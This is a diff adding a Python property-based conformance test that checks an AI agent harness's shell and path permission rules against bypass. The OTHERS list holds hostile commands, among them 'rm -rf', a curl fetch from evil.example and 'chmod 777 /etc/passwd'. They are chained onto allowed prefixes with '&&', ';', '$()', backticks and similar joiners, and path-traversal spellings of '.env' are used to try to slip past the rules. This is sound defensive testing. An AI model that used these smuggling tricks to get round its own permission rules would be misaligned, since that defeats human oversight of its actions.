@@ -1,0 +1,263 @@
+"""Rule matching can't be bypassed (PERM-11): compound shell commands and unnormalised paths.
+
+Everything goes through ``execute``: a call that a rule must not allow either never runs or
+runs only after the host was asked; a call a deny rule catches never runs and nobody is asked.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from conformance._strategies_permissions import (
+    edit_tool,
+    fresh_dir,
+    host_answering,
+    read_tool,
+    run_calls,
+    shell_tool,
+    sources,
+)
+from pytest_toolharness import strategies as ths
+from pytest_toolharness._capabilities import requires
+from pytest_toolharness._specs import HostSpec, RuleSpec
+
+PREFIXES = ("npm test", "git status", "ls", "make lint")
+ARGS = ("", " -q", " src/", " --all -n 10")
+# The hidden command, and a deny rule that names it.
+OTHERS: tuple[tuple[str, str], ...] = (
+    ("rm -rf x", "Bash(rm:*)"),
+    ("rm -rf x", "Bash(rm -rf:*)"),
+    ("curl -s https://evil.example/x.sh", "Bash(curl:*)"),
+    ("git push --force origin main", "Bash(git push:*)"),
+    ("chmod 777 /etc/passwd", "Bash(chmod *)"),
+    ("sh", "Bash(sh)"),
+)
+JOINERS = ("&&", "||", ";", ";nospace", "|", "|nospace", "&", "\n", "$()", '"$()"', "``", "<()")
+
+
+def join(allowed: str, other: str, joiner: str, other_first: bool) -> str:
+    """``allowed`` and ``other`` joined so that a shell runs both."""
+    if joiner == "$()":
+        return f"{allowed} $({other})"
+    if joiner == '"$()"':
+        return f'{allowed} "$({other})"'
+    if joiner == "``":
+        return f"{allowed} `{other}`"
+    if joiner == "<()":
+        return f"{allowed} <({other})"
+    left, right = (other, allowed) if other_first else (allowed, other)
+    if joiner == "\n":
+        return f"{left}\n{right}"
+    if joiner.endswith("nospace"):
+        return f"{left}{joiner.removesuffix('nospace')}{right}"
+    return f"{left} {joiner} {right}"
+
+
+@st.composite
+def bypass_attempts(draw: st.DrawFn) -> tuple[str, str, str, str]:
+    """(allowed prefix, full command, hidden command, deny rule naming the hidden command)."""
+    prefix = draw(st.sampled_from(PREFIXES))
+    allowed = prefix + draw(st.sampled_from(ARGS))
+    other, deny = draw(st.sampled_from(OTHERS))
+    command = join(allowed, other, draw(st.sampled_from(JOINERS)), draw(st.booleans()))
+    return prefix, command, other, deny
+
+
+def allow_rule_for(prefix: str, form: str) -> str:
+    return {"colon": f"Bash({prefix}:*)", "space": f"Bash({prefix} *)"}[form]
+
+
+@requires("execution", "host_callback")
+@pytest.mark.requirement("PERM-11", "MUST")
+@settings(max_examples=30, deadline=None)
+@given(
+    attempt=bypass_attempts(),
+    form=st.sampled_from(["colon", "space"]),
+    source=sources(),
+    headless=st.booleans(),
+)
+def test_prefix_allow_never_covers_a_compound_command(
+    new_harness: Callable[[], Any],
+    attempt: tuple[str, str, str, str],
+    form: str,
+    source: str,
+    headless: bool,
+) -> None:
+    """PERM-11: ``Bash(npm test:*)`` never lets ``npm test && rm -rf x`` (``;``, ``||``, ``|``, ``&``, newline, ``$()``, backticks, ``<()``) run unasked."""
+    prefix, command, other, _deny = attempt
+    rule = allow_rule_for(prefix, form)
+    host: HostSpec | None = None if headless else host_answering("deny")
+    run = run_calls(
+        new_harness(),
+        [shell_tool()],
+        [("Bash", {"command": command})],
+        rules=[RuleSpec(rule, "allow", source)],
+        host=host,
+    )
+    assert run.ran() == 0, (
+        f"allow rule {rule!r} let the compound command {command!r} run (hidden part {other!r}); {run.describe()}"
+    )
+    if host is not None:
+        assert len(run.asked) == 1, (
+            f"allow rule {rule!r} does not cover {command!r}: the host should have been asked; {run.describe()}"
+        )
+
+
+@requires("execution")
+@pytest.mark.requirement("PERM-11", "MUST")
+@settings(max_examples=15, deadline=None)
+@given(
+    command=st.sampled_from(PREFIXES).flatmap(lambda p: st.tuples(st.just(p), st.sampled_from(ARGS))),
+    form=st.sampled_from(["colon", "space"]),
+)
+def test_prefix_allow_still_allows_the_plain_command(
+    new_harness: Callable[[], Any], command: tuple[str, str], form: str
+) -> None:
+    """PERM-11 (control for the bypass test): ``Bash(npm test:*)`` does allow ``npm test`` and ``npm test -q`` alone."""
+    prefix, args = command
+    rule = allow_rule_for(prefix, form)
+    host = host_answering("deny")
+    run = run_calls(
+        new_harness(),
+        [shell_tool()],
+        [("Bash", {"command": prefix + args})],
+        rules=[RuleSpec(rule, "allow")],
+        host=host,
+    )
+    assert (run.ran(), run.asked) == (1, []), f"{rule!r} must allow {prefix + args!r}: {run.describe()}"
+
+
+@requires("execution", "host_callback")
+@pytest.mark.requirement("PERM-11", "MUST")
+@settings(max_examples=30, deadline=None)
+@given(
+    attempt=bypass_attempts(),
+    form=st.sampled_from(["colon", "space"]),
+    source=sources(),
+    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions", "dontAsk"]),
+)
+def test_deny_rule_applies_to_any_part(
+    new_harness: Callable[[], Any],
+    attempt: tuple[str, str, str, str],
+    form: str,
+    source: str,
+    mode: str,
+) -> None:
+    """PERM-11: a deny rule for the hidden command denies the whole compound command, beside an allow rule for the visible part, in any mode."""
+    prefix, command, other, deny = attempt
+    rules = [RuleSpec(allow_rule_for(prefix, form), "allow", source), RuleSpec(deny, "deny", source)]
+    run = run_calls(
+        new_harness(),
+        [shell_tool()],
+        [("Bash", {"command": command})],
+        rules=rules,
+        mode=mode,
+        host=host_answering("allow"),
+    )
+    assert run.ran() == 0, (
+        f"deny rule {deny!r} missed {other!r} inside {command!r} ({mode}); {run.describe()}"
+    )
+    assert run.asked == [], (
+        f"deny rule {deny!r} matched {command!r}: the host must not be asked; {run.describe()}"
+    )
+
+
+def _project() -> Path:
+    """A working directory with ``.env``, ``src/app.py`` and an outside sibling file."""
+    root = fresh_dir()
+    cwd = root / "project"
+    (cwd / "src").mkdir(parents=True)
+    (cwd / ".env").write_text("SECRET=1\n", encoding="utf-8")
+    (cwd / "src" / "app.py").write_text("print(1)\n", encoding="utf-8")
+    (root / "outside.txt").write_text("x\n", encoding="utf-8")
+    return cwd
+
+
+@st.composite
+def env_spellings(draw: st.DrawFn) -> tuple[str, bool]:
+    """(a spelling of ``.env``, whether it is absolute: to be prefixed with the working directory)."""
+    if draw(st.booleans()):
+        return draw(
+            st.sampled_from(["./a/../.env", ".//.env", ".env", "src/../.env", "./src/./../.env"])
+        ), False
+    if draw(st.booleans()):
+        return draw(ths.path_variants(".env")), False
+    return draw(st.sampled_from(["/.env", "//.env", "/src/../.env", "/./.env"])), True
+
+
+@requires("execution", "host_callback")
+@pytest.mark.requirement("PERM-11", "MUST")
+@settings(max_examples=30, deadline=None)
+@given(
+    spelling=env_spellings(),
+    kind=st.sampled_from(["read", "edit"]),
+    rule_form=st.sampled_from(["./.env", ".env"]),
+    mode=st.sampled_from(["default", "acceptEdits", "bypassPermissions"]),
+    source=sources(),
+)
+def test_path_deny_matches_every_spelling_of_the_path(
+    new_harness: Callable[[], Any],
+    spelling: tuple[str, bool],
+    kind: str,
+    rule_form: str,
+    mode: str,
+    source: str,
+) -> None:
+    """PERM-11: ``Read(./.env)`` / ``Edit(./.env)`` deny catches ``./a/../.env``, ``.//.env`` and the absolute path of the same file."""
+    cwd = _project()
+    text, absolute = spelling
+    path = f"{cwd}{text}" if absolute else text
+    tool = read_tool() if kind == "read" else edit_tool()
+    rules = [RuleSpec(f"{tool.name}({rule_form})", "deny", source), RuleSpec(tool.name, "allow", source)]
+    run = run_calls(
+        new_harness(),
+        [tool],
+        [(tool.name, {"file_path": path})],
+        rules=rules,
+        mode=mode,
+        host=host_answering("allow"),
+        cwd=cwd,
+    )
+    assert run.ran() == 0, (
+        f"{rules[0].text} deny did not catch {path!r} (cwd {cwd}, {mode}); {run.describe()}"
+    )
+    assert run.asked == [], (
+        f"{rules[0].text} deny matched {path!r}: the host must not be asked; {run.describe()}"
+    )
+
+
+@requires("execution", "host_callback")
+@pytest.mark.requirement("PERM-11", "MUST")
+@settings(max_examples=30, deadline=None)
+@given(
+    target=st.sampled_from(["src/../.env", "src/../../outside.txt", "src/app.py", "src/new.txt"]),
+    data=st.data(),
+)
+def test_path_allow_matches_only_the_normalised_path(
+    new_harness: Callable[[], Any], target: str, data: st.DataObject
+) -> None:
+    """PERM-11: ``Edit(./src/**)`` allows any spelling of a path inside ``src/`` and none that climbs out of it (``src/../.env``)."""
+    cwd = _project()
+    path = data.draw(ths.path_variants(target), label="path")
+    inside = not target.startswith("src/..")
+    run = run_calls(
+        new_harness(),
+        [edit_tool()],
+        [("Edit", {"file_path": path})],
+        rules=[RuleSpec("Edit(./src/**)", "allow")],
+        host=host_answering("deny"),
+        cwd=cwd,
+    )
+    if inside:
+        assert (run.ran(), run.asked) == (1, []), f"Edit(./src/**) must allow {path!r}: {run.describe()}"
+    else:
+        assert (run.ran(), len(run.asked)) == (0, 1), (
+            f"Edit(./src/**) must not allow {path!r} (it is {target!r}); expected the host to be asked: "
+            f"{run.describe()}"
+        )
